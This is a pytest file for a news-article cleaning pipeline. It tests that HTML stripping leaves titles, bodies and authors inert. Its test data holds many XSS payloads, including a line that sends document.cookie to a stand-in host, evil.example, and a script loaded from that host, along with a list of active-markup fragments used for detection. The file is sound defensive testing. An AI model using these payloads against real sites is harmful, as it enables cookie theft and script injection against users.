"""HTML in plain-text fields (issue 6): nothing active may reach the index."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

import pytest

from schemas.models import EnrichedArticle, RawArticle
from workers.core.cleaning import ArticleCleaner
from workers.core.cleaning.markup import strip_markup
from workers.core.factory import build_pipeline
from workers.core.pipeline import Pipeline

# A tag as a browser would open one (a bracketed e-mail address is not one).
_TAG = re.compile(r"<\s*/?\s*[A-Za-z][A-Za-z0-9-]*(?:[\s/>]|$)")

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script_attrs": '<SCRIPT type="text/javascript" src="//evil.example/x.js"></SCRIPT>',
    "img_onerror": "<img src=x onerror=alert(1)>",
    "img_onerror_unclosed": "<img src=x onerror=alert(1)",
    "javascript_link": '<a href="javascript:alert(document.cookie)">اضغط هنا</a>',
    "style": "<style>body{background:url(javascript:alert(1))}</style>",
    "iframe": '<iframe src="javascript:alert(1)">frame text</iframe>',
    "object": '<object data="data:text/html;base64,PHNjcmlwdD4=">fallback</object>',
    "embed": '<embed src="data:text/html,<script>alert(1)</script>">',
    "noscript": "<noscript><img src=x onerror=alert(1)></noscript>",
    "template": "<template><script>alert(1)</script></template>",
    "inline_handler": '<div onmouseover="alert(1)">hover</div>',
    "svg_onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "unknown_element_handler": "<xss onfocus=alert(1) autofocus tabindex=1>",
    "custom_element": '<news-widget onclick="alert(1)">widget</news-widget>',
    "comment": "<!-- <script>alert(1)</script> -->",
    "encoded_script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "bare_scheme": "see javascript:alert(1) and JaVa\tScRiPt:alert(2)",
    "vbscript": "vbscript:msgbox(1)",
}

ARABIC_BODY = (
    "أعلنت وزارة الصحة في عمّان يوم الأحد عن افتتاح مستشفى جديد في مدينة الزرقاء بسعة "
    "مئتي سرير، وقال الوزير إن المشروع سيخدم أكثر من نصف مليون نسمة.\n"
    "وأضاف أن الحكومة خصصت ميزانية إضافية لتجهيز أقسام الطوارئ في المحافظات الشمالية "
    "خلال العام المقبل."
)
ENGLISH_BODY = (
    "The city council in Leeds approved a new cycling plan on Tuesday after a long debate, "
    "and the mayor said the first lanes would open in the spring.\n"
    "Residents who attended the meeting asked for more crossings near schools, and officials "
    "promised a review of the busiest junctions before the summer."
)

_ACTIVE_FRAGMENTS = (
    "<script",
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onclick",
    "javascript:",
    "vbscript:",
)


def assert_inert(value: str) -> None:
    lowered = value.lower()
    for fragment in _ACTIVE_FRAGMENTS:
        assert fragment not in lowered, (fragment, value)
    assert "alert(1)</script" not in lowered
    assert not _TAG.search(value), value


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_strip_markup_removes_each_attack(name: str) -> None:
    cleaned = strip_markup(f"قبل {ATTACKS[name]} بعد")
    assert_inert(cleaned)
    assert cleaned.startswith("قبل")
    if not name.endswith("unclosed"):  # an unclosed tag's attributes run to the end, as in browsers
        assert cleaned.rstrip().endswith("بعد")


def test_script_style_and_embedded_documents_lose_their_content() -> None:
    cleaned = strip_markup(
        "A<script>var stolen = 1;</script>B<style>p{color:red}</style>C"
        "<iframe>inner frame</iframe>D<object>object fallback</object>E"
        "<noscript>enable js</noscript>F<template>hidden</template>G"
    )
    assert cleaned == "ABCDEFG"


def test_other_tags_keep_their_text_and_blocks_become_lines() -> None:
    cleaned = strip_markup(
        "<p>First <b>bold</b> point.</p><p>Second<br>third</p><ul><li>x</li></ul>"
    )
    lines = [line.strip() for line in cleaned.split("\n") if line.strip()]
    assert lines == ["First bold point.", "Second", "third", "x"]


@pytest.mark.parametrize(
    "text",
    [
        "x < y and y > z",
        "AT&T and Johnson & Johnson",
        "3<5 and 7>2",
        "x<y and y>z",
        "the test holds if a<b",
        "Contact the desk at <desk@example.com> for corrections.",
        "قال المتحدث إن النتائج مشجعة، وإن 3<5 في هذه الحالة.",
        '[caption id="attachment_12" align="alignnone"]صورة من الموقع[/caption]',
        "A plain sentence without any markup at all.",
    ],
)
def test_legitimate_text_survives_unchanged(text: str) -> None:
    assert strip_markup(text) == text


def test_entities_are_unescaped_once() -> None:
    assert strip_markup("Tom &amp; Jerry &#8212; caf&eacute;") == "Tom & Jerry — café"
    # Double-encoded text stays encoded once: it was written about markup, not as markup.
    assert strip_markup("write &amp;lt; for a less-than sign") == "write &lt; for a less-than sign"


def test_markup_revealed_by_unescaping_is_stripped_too() -> None:
    cleaned = strip_markup("News &lt;img src=x onerror=alert(1)&gt; here")
    assert_inert(cleaned)
    assert cleaned == "News  here"


def test_data_html_urls_are_removed() -> None:
    cleaned = strip_markup("open data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== now")
    assert "text/html" not in cleaned and "PHNj" not in cleaned
    assert cleaned.startswith("open") and cleaned.endswith("now")


@pytest.mark.parametrize("body", [ARABIC_BODY, ENGLISH_BODY], ids=["ar", "en"])
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_cleaner_strips_attacks_from_text_title_and_author(
    cleaner: ArticleCleaner, make_raw: Callable[..., RawArticle], body: str, name: str
) -> None:
    attack = ATTACKS[name]
    first, second = body.split("\n")
    if name.endswith("unclosed"):  # it swallows what follows, so it goes last
        raw = make_raw(
            text=f"{first}\n<p>{second}</p>{attack}",
            title=f"عنوان الخبر Headline {attack}",
            author=f"<b>Rana Haddad</b>{attack}",
        )
    else:
        raw = make_raw(
            text=f"{first}{attack}\n<p>{second}</p>",
            title=f"{attack}عنوان الخبر Headline",
            author=f"<b>Rana Haddad</b>{attack}",
        )
    article = cleaner(raw)
    for value in (article.title, article.body, article.author or ""):
        assert_inert(value)
    assert "عنوان الخبر Headline" in article.title
    assert first in article.body and second in article.body
    assert article.author is not None and article.author.startswith("Rana Haddad")


def test_paragraphs_from_html_blocks_survive_in_the_body(
    cleaner: ArticleCleaner, make_raw: Callable[..., RawArticle]
) -> None:
    first, second = ENGLISH_BODY.split("\n")
    raw = make_raw(text=f"<div><p>{first}</p><p>{second}</p></div>", title="Cycling plan")
    assert cleaner(raw).body == f"{first}\n\n{second}"


@pytest.fixture(scope="module")
def pipeline() -> Iterator[Pipeline]:
    built = build_pipeline()
    yield built
    built.cleaner.close()  # type: ignore[attr-defined]


def _assert_offsets(article: EnrichedArticle) -> None:
    spans = [(e.field, e.start, e.end, e.text) for e in article.entities]
    spans += [(c.field, c.start, c.end, c.text) for c in article.claims]
    assert spans, "the fixture should produce at least one entity or claim"
    for field, start, end, text in spans:
        source = article.body if str(getattr(field, "value", field)) == "body" else article.title
        assert source[start:end] == text


@pytest.mark.parametrize(
    "title, text",
    [
        (
            "<script>alert(1)</script>Leeds council approves cycling plan",
            "<p>The city council in <b>Leeds</b> approved a new plan on Tuesday.<script>"
            "document.location='https://evil.example/?c='+document.cookie</script></p>"
            '<p><img src=x onerror="alert(1)">The mayor Sarah Collins said that the first '
            'lanes would open in the spring, and <a href="javascript:alert(1)">Transport for '
            "the North</a> welcomed the plan.</p>",
        ),
        (
            "<style>h1{}</style>افتتاح مستشفى في الزرقاء",
            "<p>أعلنت وزارة الصحة الأردنية في <i>عمّان</i> عن افتتاح مستشفى جديد."
            "<iframe src=x>إطار</iframe></p><p><img src=x onerror=alert(1)>وقال وزير الصحة "
            'إن المشروع سيخدم سكان <a href="javascript:void(0)">الزرقاء</a> والمناطق '
            "المجاورة خلال العام المقبل.</p>",
        ),
    ],
    ids=["en", "ar"],
)
def test_pipeline_offsets_index_the_cleaned_text(
    pipeline: Pipeline, make_raw: Callable[..., RawArticle], title: str, text: str
) -> None:
    article = pipeline.process(make_raw(text=text, title=title))
    assert_inert(article.title)
    assert_inert(article.body)
    _assert_offsets(article)


def test_title_from_html_metadata_is_unescaped_and_inert(
    cleaner: ArticleCleaner, make_raw: Callable[..., RawArticle]
) -> None:
    page = (
        "<html><head><title>Q&amp;A: why &lt;script&gt;stolen()&lt;/script&gt;tags "
        "&lt;img src=x onerror=alert(1)&gt;matter</title></head><body></body></html>"
    )
    article = cleaner(make_raw(text=ENGLISH_BODY, html=page))
    assert_inert(article.title)
    assert article.title == "Q&A: why tags matter"
